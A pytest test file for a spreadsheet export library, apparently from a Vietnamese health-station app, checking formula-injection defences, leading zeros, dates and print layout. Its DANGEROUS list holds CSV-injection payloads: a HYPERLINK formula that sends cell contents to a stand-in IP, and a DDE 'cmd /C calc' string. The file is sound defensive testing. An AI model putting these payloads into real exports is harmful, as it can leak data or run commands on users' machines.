"""Every file that leaves the house: text stays text, zeros stay, dates are dates (EXP-01, 02, 03)."""

import csv
import io
import re
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from lib.columns import Column, Kind
from lib.dates_vn import PartialDate
from lib.spreadsheets import write
from lib.spreadsheets.check import Kind as FileKind
from lib.spreadsheets.check import check
from lib.spreadsheets.formulas import TRIGGERS, formula_safe, without_apostrophe
from lib.spreadsheets.read import rows as read_rows
from lib.spreadsheets.write import Document, csv_chunks, unique_titles, write_csv, write_xlsx

ROOT = Path(__file__).parents[3]
TEXT_KINDS = (Kind.TEXT, Kind.ID, Kind.PHONE)
DANGEROUS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"xem")',
    "=1+1",
    "+84912345678",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\x01=1+1",
]


def columns(*kinds):
    return [
        Column(f"c{n}", f"Cột {n}", f"Column {n}", lambda row, n=n: row[n], kind)
        for n, kind in enumerate(kinds)
    ]


def parsed(raw, delimiter=","):
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def formulas_and_texts(fods):
    """Formula cells and the texts of all cells in a flat document of LibreOffice."""
    tree = ElementTree.parse(fods)
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    cells = list(tree.iter(f"{table}table-cell"))
    formulas = [cell.get(f"{table}formula") for cell in cells if cell.get(f"{table}formula")]
    return formulas, ["\n".join("".join(part.itertext()) for part in cell) for cell in cells]


# ---------------------------------------------------------------- EXP-01: nothing becomes a formula


@pytest.mark.parametrize("kind", TEXT_KINDS)
@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_stays_text_in_xlsx(tmp_path, kind, text):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(kind), [(text,)])
    cell = openpyxl.load_workbook(path).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == re.sub("[\x00\x01]", "", text).replace("\r", "\n")
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("kind", TEXT_KINDS)
@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_dangerous_text_is_marked_in_csv(kind, text, delimiter):
    raw = b"".join(csv_chunks(columns(kind), [(text,)], delimiter=delimiter))
    ((_title,), (cell,)) = parsed(raw, delimiter)
    assert cell.startswith("'")
    assert cell[1:] == re.sub("[\x00\x01]", "", text)


@pytest.mark.parametrize("title", ["=1+1", "@x", "-Ghi chú"])
def test_titles_are_text_too(tmp_path, title):
    column = [Column("x", title, title, lambda row: row)]
    assert parsed(b"".join(csv_chunks(column, ["a"])))[0] == [f"'{title}"]
    write_xlsx(tmp_path / "ds.xlsx", column, ["a"], Document(title=title, lines=(title,)))
    sheet = openpyxl.load_workbook(tmp_path / "ds.xlsx").active
    assert {sheet["A1"].data_type, sheet["A2"].data_type, sheet["A4"].data_type} == {"s"}


@pytest.mark.parametrize("trigger", list(TRIGGERS))
def test_every_trigger_is_known(trigger):
    assert formula_safe(f"{trigger}x").startswith("'")


@pytest.mark.parametrize("text", ["", "Lan", "027085001234", "a=b", " =1", "12/3", "(+84)", "'quoted'"])
def test_harmless_text_is_left_alone(text):
    assert formula_safe(text) == text


@pytest.mark.parametrize(
    "text", [text for text in DANGEROUS if text[0] not in "\x00\x01"] + ["Lan", "'Lan", ""]
)
def test_the_mark_is_taken_off_when_our_own_file_comes_back(text):
    assert without_apostrophe(formula_safe(text)) == text


def test_our_own_csv_is_read_again_as_it_was(tmp_path):
    path = tmp_path / "ds.csv"
    write_csv(path, columns(Kind.TEXT, Kind.PHONE), [("-Lan", "+84912345678"), ("=1+1", "0912345678")])
    assert list(read_rows(path))[1:] == [["-Lan", "+84912345678"], ["=1+1", "0912345678"]]


@pytest.mark.slow
def test_libreoffice_finds_no_formula_in_any_file(tmp_path, libreoffice):
    shown = columns(*TEXT_KINDS)
    rows = [(text,) * len(shown) for text in DANGEROUS]
    write_xlsx(tmp_path / "xlsx.xlsx", shown, rows)
    formulas, texts = formulas_and_texts(libreoffice(tmp_path / "xlsx.xlsx", "fods"))
    assert formulas == []
    assert texts.count("=1+1") >= 3
    for delimiter, name in ((",", "44"), (";", "59")):
        folder = tmp_path / name
        folder.mkdir()
        write_csv(folder / "ds.csv", shown, rows, delimiter=delimiter)
        formulas, texts = formulas_and_texts(
            libreoffice(folder / "ds.csv", "fods", infilter=f"CSV:{name},34,76,1")
        )
        assert formulas == []
        assert texts.count("'=1+1") + texts.count("=1+1") >= 3


@pytest.mark.slow
def test_libreoffice_does_find_the_formula_of_an_unsafe_file(tmp_path, libreoffice):
    """So that the test above can fail."""
    path = tmp_path / "unsafe.csv"
    path.write_text("a\n=1+1\n", encoding="utf-8")
    formulas, _texts = formulas_and_texts(libreoffice(path, "fods", infilter="CSV:44,34,76,1"))
    assert formulas == ["of:=1+1"]


# ---------------------------------------------------------------- EXP-02: digits that are names


NUMBERS = ("027085001234", "0912345678", "00123", "0001E5", "1-2", "MAR-12")


def test_numbers_that_are_names_are_text_cells_with_their_zeros(tmp_path):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(*[Kind.ID] * 6), [NUMBERS])
    sheet = openpyxl.load_workbook(path).active
    assert tuple(cell.value for cell in sheet[2]) == NUMBERS
    assert {(cell.data_type, cell.number_format) for cell in sheet[2]} == {("s", "@")}
    assert b'numberStoredAsText="1"' in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")


def test_a_number_given_to_a_text_column_is_text_all_the_same(tmp_path):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.ID, Kind.PHONE, Kind.TEXT), [(27085001234, 912345678, 5)])
    assert [cell.data_type for cell in openpyxl.load_workbook(path).active[2]] == ["s", "s", "s"]


@pytest.mark.slow
def test_libreoffice_keeps_the_zeros_of_xlsx(tmp_path, libreoffice):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(*[Kind.ID] * 6), [NUMBERS])
    made = libreoffice(path, "csv:Text - txt - csv (StarCalc)", infilter=None)
    assert parsed(made.read_bytes())[1] == list(NUMBERS)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_has_its_mark_and_keeps_zeros_and_quotes_what_it_must(delimiter):
    raw = b"".join(
        csv_chunks(columns(Kind.ID, Kind.TEXT), [("027085001234", 'a,b;"c"\nd')], delimiter=delimiter)
    )
    assert raw.startswith(b"\xef\xbb\xbf")
    assert parsed(raw, delimiter) == [["Cột 0", "Cột 1"], ["027085001234", 'a,b;"c"\nd']]
    assert raw.endswith(b"\r\n")


# ---------------------------------------------------------------- EXP-03: dates


DATES = [
    (PartialDate(1985, 5, 15), "15/05/1985"),
    (PartialDate(1985, 5), "05/1985"),
    (PartialDate(1985), "1985"),
    (date(2021, 8, 3), "03/08/2021"),
    (None, ""),
]


@pytest.mark.parametrize("kind", [Kind.DATE, Kind.PARTIAL_DATE])
def test_whole_days_are_real_dates_and_a_year_alone_is_text(tmp_path, kind):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(kind), [(value,) for value, _text in DATES])
    cells = [openpyxl.load_workbook(path).active.cell(row, 1) for row in range(2, 7)]
    assert [cell.value for cell in cells] == [
        datetime(1985, 5, 15),
        "05/1985",
        "1985",
        datetime(2021, 8, 3),
        None,
    ]
    assert cells[0].number_format == cells[3].number_format == "dd/mm/yyyy"
    assert cells[1].data_type == cells[2].data_type == "s"


def test_dates_in_csv_are_written_as_people_write_them():
    raw = b"".join(csv_chunks(columns(Kind.PARTIAL_DATE), [(value,) for value, _text in DATES]))
    assert [row[0] if row else "" for row in parsed(raw)[1:]] == [text for _value, text in DATES]


@pytest.mark.slow
def test_libreoffice_shows_the_dates_as_days_first(tmp_path, libreoffice):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.PARTIAL_DATE), [(value,) for value, _text in DATES[:4]])
    made = libreoffice(path, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true")
    assert [row[0] for row in parsed(made.read_bytes())[1:]] == [text for _value, text in DATES[:4]]


# ---------------------------------------------------------------- the rest of a file


def test_numbers_are_numbers_and_yes_is_yes(tmp_path):
    path = tmp_path / "ds.xlsx"
    shown = columns(Kind.NUMBER, Kind.NUMBER, Kind.BOOL, Kind.BOOL)
    write_xlsx(path, shown, [(3, -1.5, True, None)])
    assert [cell.value for cell in openpyxl.load_workbook(path).active[2]] == [3, -1.5, "Có", None]
    assert parsed(b"".join(csv_chunks(shown, [(3, -1.5, True, None)])))[1] == ["3", "-1.5", "Có", ""]


def test_what_xml_cannot_hold_is_removed(tmp_path):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.TEXT), [("La\x0bn\x00 \ud800\ufffe<&>\nhai",)])
    assert openpyxl.load_workbook(path).active["A2"].value == "Lan <&>\nhai"
    assert parsed(b"".join(csv_chunks(columns(Kind.TEXT), [("La\x0bn\ud800",)])))[1] == ["Lan"]


def test_a_text_longer_than_a_cell_is_cut_and_says_so(tmp_path):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.TEXT), [("x" * 40_000,)])
    value = openpyxl.load_workbook(path).active["A2"].value
    assert len(value) == 32_767
    assert value.endswith("…")


def test_title_header_filter_widths_and_print_setup(tmp_path):
    path = tmp_path / "ds.xlsx"
    shown = [
        Column("name", "Họ và tên", "Name", lambda row: row, width=26),
        Column("id", "Số CCCD", "ID", lambda row: row, Kind.ID),
    ]
    made = Document(
        title="DANH SÁCH chưa tiêm",
        lines=("Phường Mẫu", "Đến 10 giờ 00 ngày 06/02/2022"),
        sheet="Chưa tiêm [1/2]",
        footer="Xuất bởi trạm A & B, mã 7K2Q",
        author="Trạm Y tế",
        subject="xuất 7K2Q",
        keywords="phường Mẫu",
        made_at=datetime(2022, 2, 6, 1, 0, tzinfo=UTC),
    )
    assert write_xlsx(path, shown, ["Lan", "Hoà"], made) == 2
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "Chưa tiêm 1 2"
    assert [sheet.cell(row, 1).value for row in range(1, 8)] == [
        "DANH SÁCH chưa tiêm",
        "Phường Mẫu",
        "Đến 10 giờ 00 ngày 06/02/2022",
        None,
        "Họ và tên",
        "Lan",
        "Hoà",
    ]
    assert sheet.freeze_panes == "A6"
    assert sheet.auto_filter.ref == "A5:B7"
    assert sheet["A5"].font.bold
    assert sheet.row_dimensions[5].height is None
    assert sheet["A1"].font.bold
    assert round(sheet.column_dimensions["A"].width) in (26, 27)
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_rows == "$5:$5"
    assert "Xuất bởi trạm A && B, mã 7K2Q" in sheet.oddFooter.left.text
    properties = book.properties
    assert (properties.title, properties.creator) == ("DANH SÁCH chưa tiêm", "Trạm Y tế")
    assert (properties.subject, properties.keywords) == ("xuất 7K2Q", "phường Mẫu")
    assert properties.created == datetime(2022, 2, 6, 1, 0)


def test_our_own_workbook_passes_our_own_check_and_reader(tmp_path):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.TEXT, Kind.ID), [("Lan", "027085001234")], Document(title="DANH SÁCH"))
    assert check(path).kind is FileKind.XLSX
    assert list(read_rows(path))[-1] == ["Lan", "027085001234"]
    assert zipfile.ZipFile(path).testzip() is None
    assert len(zipfile.ZipFile(path).namelist()) == len(set(zipfile.ZipFile(path).namelist()))


@pytest.mark.slow
def test_libreoffice_opens_our_workbook_with_its_properties(tmp_path, libreoffice):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.TEXT), [("Lan",)], Document(title="DANH SÁCH", author="Trạm Y tế"))
    text = libreoffice(path, "fods").read_text(encoding="utf-8")
    assert "<dc:title>DANH SÁCH</dc:title>" in text
    assert "Trạm Y tế" in text


def test_an_empty_list_still_has_its_header(tmp_path):
    path = tmp_path / "ds.xlsx"
    assert write_xlsx(path, columns(Kind.TEXT, Kind.DATE), [], Document(title="DANH SÁCH")) == 0
    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[3]] == ["Cột 0", "Cột 1"]
    assert parsed(b"".join(csv_chunks(columns(Kind.TEXT), []))) == [["Cột 0"]]


def test_a_list_of_one_column_takes_a_title(tmp_path):
    write_xlsx(tmp_path / "ds.xlsx", columns(Kind.TEXT), [("Lan",)], Document(title="DANH SÁCH"))
    assert openpyxl.load_workbook(tmp_path / "ds.xlsx").active["A1"].value == "DANH SÁCH"


def test_columns_of_one_title_are_both_written(tmp_path):
    assert unique_titles(["Ngày", "Số", "Ngày", "Ngày"]) == ["Ngày", "Số", "Ngày (2)", "Ngày (3)"]
    twins = [Column("a", "Ngày", "", lambda row: row[0]), Column("b", "Ngày", "", lambda row: row[1])]
    write_xlsx(tmp_path / "ds.xlsx", twins, [("x", "y")])
    sheet = openpyxl.load_workbook(tmp_path / "ds.xlsx").active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Ngày", "Ngày (2)"], ["x", "y"]]


def test_a_title_wider_than_its_column_is_seen_whole(tmp_path):
    column = Column("id", "Số CCCD/định danh", "", lambda row: row, Kind.ID, width=12)
    write_xlsx(tmp_path / "ds.xlsx", [column], ["x"])
    assert openpyxl.load_workbook(tmp_path / "ds.xlsx").active.row_dimensions[1].height == 30


def test_titles_in_english(tmp_path):
    write_xlsx(tmp_path / "ds.xlsx", columns(Kind.TEXT), [("x",)], Document(language="en"))
    assert openpyxl.load_workbook(tmp_path / "ds.xlsx").active["A1"].value == "Column 0"


@pytest.mark.parametrize("count", [0, 1, 2, 3, 4, 6, 7])
def test_more_rows_than_a_sheet_holds_go_on_the_next_one_and_none_is_left_out(tmp_path, count):
    path = tmp_path / "ds.xlsx"
    document = Document(title="DANH SÁCH", lines=(f"Tổng số: {count} người",))
    assert (
        write_xlsx(path, columns(Kind.NUMBER), iter([(n,) for n in range(count)]), document, rows_per_sheet=3)
        == count
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Danh sách", "Danh sách (2)", "Danh sách (3)"][: max(1, -(-count // 3))]
    found = [[cell.value for cell in sheet["A"][4:]] for sheet in book]
    assert found == [list(range(n, min(n + 3, count))) for n in range(0, max(count, 1), 3)]
    for sheet in book:
        assert [cell.value for cell in sheet["A"][:4]] == [
            "DANH SÁCH",
            f"Tổng số: {count} người",
            None,
            "Cột 0",
        ]
        assert sheet.print_title_rows == "$4:$4"
        assert sheet.auto_filter.ref == f"A4:A{sheet.max_row}"


def test_a_full_sheet_stays_below_the_limit_of_the_format():
    assert write.ROWS_PER_SHEET < 1_048_576 - 100


def test_a_wide_list_is_printed_on_pages_side_by_side_with_its_names_on_each(tmp_path):
    path = tmp_path / "ds.xlsx"
    shown = [Column(f"c{n}", f"Cột {n}", "", lambda row: row, width=30) for n in range(12)]
    write_xlsx(path, shown, ["x"], Document(header="Phường A & B", repeated=2, printed=11))
    sheet = openpyxl.load_workbook(path).active
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (2, 0)
    assert (sheet.print_title_cols, sheet.print_title_rows) == ("$A:$B", "$1:$1")
    assert sheet.print_area == "'Danh sách'!$A$1:$K$2"
    assert "Phường A && B" in sheet.oddHeader.left.text
    assert "Trang &P/&N" in sheet.oddFooter.right.text
    write_xlsx(path, shown[:5], ["x"])
    sheet = openpyxl.load_workbook(path).active
    assert (sheet.page_setup.fitToWidth, sheet.print_title_cols) == (1, None)


@pytest.mark.parametrize(
    "text",
    [
        "a & b <c>",
        "_x0041",
        " trước",
        "sau ",
        "hai\ndòng",
        "a|b",
        "| ",
        "😀 Lan",
        "]]>",
        "&amp;",
        "x" * 300,
    ],
)
@pytest.mark.parametrize("beside", ["", "Lan", "|", 5, None])
def test_any_text_comes_back_as_it_was_whatever_stands_in_the_other_rows(tmp_path, text, beside):
    path = tmp_path / "ds.xlsx"
    write_xlsx(path, columns(Kind.TEXT, Kind.ID), [(text, text), (beside, beside)])
    sheet = openpyxl.load_workbook(path).active
    expected = None if beside in ("", None) else str(beside)
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        [text] * 2,
        [expected] * 2,
    ]


@pytest.mark.parametrize("value", [date(1890, 5, 1), date(1900, 2, 28), float("nan"), float("inf")])
def test_what_a_spreadsheet_has_no_number_for_is_text(tmp_path, value):
    path = tmp_path / "ds.xlsx"
    kind = Kind.DATE if isinstance(value, date) else Kind.NUMBER
    write_xlsx(path, columns(kind), [(value,), (date(1900, 3, 1) if kind is Kind.DATE else 1,)])
    sheet = openpyxl.load_workbook(path).active
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == (datetime(1900, 3, 1) if kind is Kind.DATE else 1)


@pytest.mark.slow
def test_libreoffice_reads_every_row_of_several_sheets(tmp_path, libreoffice):
    path = tmp_path / "ds.xlsx"
    rows = [(f"Người {n}", f"0{n:011}", date(2022, 2, 1 + n % 28), n) for n in range(900)]
    rows.append(("_x0041_", "_x0042_", date(2022, 2, 5), 900))  # what Excel itself would read as A and B
    write_xlsx(path, columns(Kind.TEXT, Kind.ID, Kind.DATE, Kind.NUMBER), rows, rows_per_sheet=400)
    _formulas, texts = formulas_and_texts(libreoffice(path, "fods"))
    assert _formulas == []
    for name, digits, day, number in rows:
        assert {name, digits, f"{day:%d/%m/%Y}", str(number)} <= set(texts)


def test_csv_is_streamed_in_pieces():
    endless = (("x" * 100,) for _ in iter(int, 1))
    pieces = csv_chunks(columns(Kind.TEXT), endless)
    assert 60_000 < len(next(pieces)) < 200_000
    assert 60_000 < len(next(pieces)) < 200_000
    pieces.close()


@pytest.mark.slow
def test_a_long_list_is_written_in_little_memory(tmp_path):
    script = (
        "import resource, sys\n"
        "from lib.columns import Column, Kind\n"
        "from lib.spreadsheets.write import write_csv, write_xlsx\n"
        "shown = [Column(str(n), str(n), '', lambda row: row, Kind.ID) for n in range(20)]\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "write_xlsx(sys.argv[1], shown, (f'{n:012}' for n in range(60_000)))\n"
        "write_csv(sys.argv[2], shown, (f'{n:012}' for n in range(60_000)))\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    command = [sys.executable, "-c", script, str(tmp_path / "ds.xlsx"), str(tmp_path / "ds.csv")]
    done = subprocess.run(command, capture_output=True, text=True, check=True, cwd=ROOT)
    assert int(done.stdout) < 40 * 1024
